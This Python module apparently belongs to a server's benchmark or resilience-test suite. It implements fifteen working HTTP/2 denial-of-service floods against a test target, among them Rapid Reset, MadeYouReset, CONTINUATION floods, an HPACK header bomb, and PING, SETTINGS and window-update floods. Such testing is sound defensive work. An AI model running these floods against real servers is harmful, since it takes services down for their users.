"""Frames that cost their sender little and, badly counted, the server much: too many of them, or of no use."""

from contextlib import suppress

from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, PriorityFrame, SettingsFrame

from benchmarks.attacks.calls import GENERATE, GENERATE_STREAM, SCORE, SCORE_STREAM, generate
from benchmarks.attacks.peer import FRAME_BYTES, Fields, Peer, data, header_block, headers, reset, window_update
from benchmarks.attacks.target import Target

AT_ONCE = 100  # calls, which are a connection's limit
PATIENCE_S = 0.1  # before the next connection has its turn: who is read no more has been found out
WRONG_LENGTH: Fields = (("content-length", "5"),)


def rapid_reset(target: Target) -> None:
    """20,000 calls on each of 4 connections, each reset as it begins (CVE-2023-44487)."""
    for _ in range(4):
        peer = target.connect()
        with suppress(ConnectionError):
            for _ in range(200):
                peer.write(b"".join(_reset_call(peer) for _ in range(AT_ONCE)), PATIENCE_S)
                peer.read()


def rapid_reset_on_new_connections(target: Target) -> None:
    """The same, 900 on each of 60 connections: below any limit of one."""
    for _ in range(60):
        peer = target.connect()
        with suppress(ConnectionError):
            for _ in range(9):
                peer.write(b"".join(_reset_call(peer) for _ in range(AT_ONCE)))
        peer.close()


def made_you_reset(target: Target) -> None:
    """5,000 calls that make the server reset them, by a window update of 0 (CVE-2025-8671)."""
    peer = target.connect()
    for _ in range(50):
        streams = [peer.next_stream() for _ in range(AT_ONCE)]
        peer.write(
            b"".join(_call(stream) + b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + bytes(4) for stream in streams)
        )
        peer.read()


def made_you_reset_by_length(target: Target) -> None:
    """900 calls on each of 22 connections, whose bodies are longer than they say."""
    for _ in range(22):
        peer = target.connect()
        with suppress(ConnectionError):
            for _ in range(9):
                peer.write(b"".join(_call(peer.next_stream(), WRONG_LENGTH) for _ in range(AT_ONCE)))
                peer.read()
        peer.close()


def continuation_flood(target: Target) -> None:
    """3 header blocks without an end, 48 MB of CONTINUATION each."""
    more = ContinuationFrame(1, b"\x00\x01a\x7f\x80\x7e" + b"x" * 16_000).serialize()
    for _ in range(3):
        peer = target.connect()
        with suppress(ConnectionError):
            peer.write(HeadersFrame(peer.next_stream(), header_block(GENERATE)).serialize())
            for _ in range(3000):
                peer.write(more, PATIENCE_S)


def empty_data_flood(target: Target) -> None:
    """2,000,000 empty DATA frames on one call."""
    peer = target.connect()
    frames = data(peer.open(SCORE_STREAM)) * 10_000
    for _ in range(200):
        peer.write(frames, PATIENCE_S)


def one_byte_data_flood(target: Target) -> None:
    """2,000,000 DATA frames of a byte each: one message of 2 MB."""
    peer = target.connect()
    stream = peer.open(SCORE)
    peer.write(data(stream, b"\0\0\x20\0\0"))
    frames = data(stream, b"x") * 10_000
    for _ in range(200):
        peer.write(frames, PATIENCE_S)
        peer.read()


def empty_message_flood(target: Target) -> None:
    """600,000 empty messages on one ScoreStream."""
    peer = target.connect()
    peer.read(0.1)
    stream = peer.open(SCORE_STREAM)
    peer.send_body(stream, bytes(5) * 600_000, is_end=True)
    peer.answer(stream, 10)


def ping_flood(target: Target) -> None:
    """2,000,000 PINGs whose answers are not read."""
    _flood(target.connect(), PingFrame(opaque_data=b"12345678").serialize() * 10_000, 200)


def settings_flood(target: Target) -> None:
    """1,000,000 SETTINGS whose answers are not read."""
    _flood(target.connect(), SettingsFrame(settings={4: 65_535}).serialize() * 10_000, 100)


def window_settings_flood(target: Target) -> None:
    """100 open calls on each of 10 connections, and 2,000 SETTINGS on each that change all their windows."""
    frames = b"".join(SettingsFrame(settings={4: 65_535 + number % 2}).serialize() for number in range(500))
    peers = [target.connect() for _ in range(10)]
    for peer in peers:
        for _ in range(AT_ONCE):
            peer.open(SCORE_STREAM)
    for _ in range(4):
        for peer in peers:
            with suppress(ConnectionError):
                peer.write(frames, PATIENCE_S)
                peer.read()


def priority_flood(target: Target) -> None:
    """500,000 PRIORITY frames for streams that are not there."""
    frames = b"".join(PriorityFrame(2 * number + 1, stream_weight=number % 256).serialize() for number in range(10_000))
    _flood(target.connect(), frames, 50)


def window_update_flood(target: Target) -> None:
    """20,000 windows of a byte for 60 GenerateStreams that wait for them."""
    peer = target.connect(stream_window=1000)
    streams = [peer.call(GENERATE_STREAM, generate(5000)) for _ in range(60)]
    peer.read(1)
    for _ in range(200):
        peer.write(b"".join(window_update(streams[number % 60], 1) for number in range(100)))
        peer.read()


def header_bomb(target: Target) -> None:
    """200 header blocks of 16 kB that stand for 64 MB each (HPACK)."""
    peer = target.connect()
    peer.write(headers(peer.next_stream(), header_block(GENERATE) + _table_entry(), is_end=True))
    for _ in range(200):
        block = header_block(GENERATE) + b"\xbe" * (FRAME_BYTES - 200)
        peer.write(headers(peer.next_stream(), block, is_end=True))
        peer.read()


def header_flood(target: Target) -> None:
    """20,000 calls of a method that is not there, with 15 kB of header fields each."""
    peer = target.connect()
    block = header_block("/no.Service/Method", tuple((f"x-{number}", "v" * 700) for number in range(19)))
    for _ in range(200):
        peer.write(b"".join(headers(peer.next_stream(), block, is_end=True) for _ in range(AT_ONCE)))
        peer.read()


def _call(stream: int, more: Fields = ()) -> bytes:
    return headers(stream, header_block(GENERATE, more)) + data(stream, generate(200), is_end=True)


def _reset_call(peer: Peer) -> bytes:
    stream = peer.next_stream()
    return _call(stream) + reset(stream)


def _flood(peer: Peer, frames: bytes, times: int) -> None:
    for _ in range(times):
        peer.write(frames, PATIENCE_S)


def _table_entry() -> bytes:
    """A field of 3,900 bytes that the server's table keeps (RFC 7541, 6.2.1), to be named by a byte afterwards."""
    value = b"b" * 3900
    rest = len(value) - 127
    return b"\x40\x06x-bomb" + bytes([127, rest & 127 | 128, rest >> 7]) + value


FLOODS = (
    rapid_reset,
    rapid_reset_on_new_connections,
    made_you_reset,
    made_you_reset_by_length,
    continuation_flood,
    empty_data_flood,
    one_byte_data_flood,
    empty_message_flood,
    ping_flood,
    settings_flood,
    window_settings_flood,
    priority_flood,
    window_update_flood,
    header_bomb,
    header_flood,
)
